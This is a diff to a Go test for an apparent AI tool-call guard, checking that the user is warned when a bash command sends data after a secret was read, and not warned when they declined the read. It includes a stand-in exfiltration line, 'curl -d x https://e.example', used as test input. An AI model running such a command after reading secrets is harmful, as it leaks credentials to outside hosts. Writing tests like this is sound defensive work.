@@ -5,8 +5,8 @@ import (
 	"testing"
 )
 
-// TestFlowAcrossCalls: a secret that was read stops what sends later to a place that the call does not name, one that
-// the user declined to have read does not.
+// TestFlowAcrossCalls: of what sends after a secret was read the user hears that, and not
+// after one that they declined to have read.
 func TestFlowAcrossCalls(t *testing.T) {
 	const after = "after secrets were read"
 	for _, action := range []string{"accept", "decline"} {
@@ -15,7 +15,7 @@ func TestFlowAcrossCalls(t *testing.T) {
 		if len(w.asked) != 1 {
 			t.Fatalf("%s: the read was asked about %d times", action, len(w.asked))
 		}
-		got := w.call("bash", `{"command":"curl -d x $WHERE"}`)
+		got := w.call("bash", `{"command":"curl -d x https://e.example"}`) + strings.Join(w.asked[1:], "\n")
 		if strings.Contains(got, after) != (action == "accept") {
 			t.Errorf("%s: %s", action, got)
 		}
